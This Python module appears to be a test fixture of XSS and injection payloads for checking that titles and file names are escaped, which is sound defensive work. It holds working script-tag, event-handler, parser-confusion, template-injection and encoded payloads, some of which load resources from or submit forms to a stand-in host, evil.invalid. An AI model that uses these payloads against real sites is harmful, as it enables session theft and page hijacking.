"""What attackers write where a title should stand: each would run, or ask elsewhere, if it could.

Whoever runs one sets `pwned`, opens a dialog, or asks the host of EVIL.
"""

from __future__ import annotations

EVIL = "evil.invalid"

# Markup, in the places where texts stand: between tags, in attributes, in scripts, in comments.
MARKUP = (
    "<script>window.pwned=1;alert(1)</script>",
    '"><img src=x onerror="window.pwned=2;alert(2)">',
    "'><svg onload=alert(3)>",
    "</title></textarea></script></style><script>alert(4)</script>",
    '" autofocus onfocus="alert(5)" x="',
    "--><script>alert(6)</script><!--",
    "]]><script>alert(7)</script>",
    f"<iframe srcdoc='<script>parent.pwned=8</script>'></iframe><img src=//{EVIL}/a.png>",
    f'<link rel=stylesheet href="//{EVIL}/a.css"><style>@import url(//{EVIL}/b.css);</style>',
    f'<meta http-equiv="refresh" content="0;url=//{EVIL}/">',
    f'<base href="//{EVIL}/"><form action="//{EVIL}/"><button>x</button></form>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(9)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(10)>">',
    "<a href=javascript:alert(11)>x</a><details open ontoggle=alert(12)>",
    "&lt;script&gt;alert(13)&lt;/script&gt;&#60;img src=x onerror=alert(14)&#62;",
)
# What is no markup: addresses, templates, other systems' codes, invisible and turning characters.
OTHER = (
    "javascript:alert(15)//",
    f"](javascript:alert(16)) ![x](//{EVIL}/c.png) [y](//{EVIL})",
    "{{constructor.constructor('alert(17)')()}} {% raw %} ${alert(18)} #{7*7}",
    '{{< evil >}} [gallery ids="1"] [[x]] <?php alert(19) ?>',
    "\\u003cscript\\u003ealert(20)\\u003c/script\\u003e \\x3cimg src=x onerror=alert(21)\\x3e",
    "\u202e<tpircs>\u2028alert(22)\u2029\u0000\ufeff<scr\u0000ipt>alert(23)</scr\u0000ipt>",
    f"url(//{EVIL}/d.png);background:url(//{EVIL}/e.png)}}x{{",
    "00:00:00.000 --> 00:00:09.000 <c.x><v \"'><img src=x onerror=alert(24)>",
    "+ADw-script+AD4-alert(25)+ADw-/script+AD4-",
)
ALL = (*MARKUP, *OTHER)


def file_name(payload: str) -> str:
    """The payload as a file system takes it."""
    bare = payload.replace("/", "\u2215").replace("\0", "")
    while len(bare.encode()) > 200:
        bare = bare[:-1]
    return bare.strip()
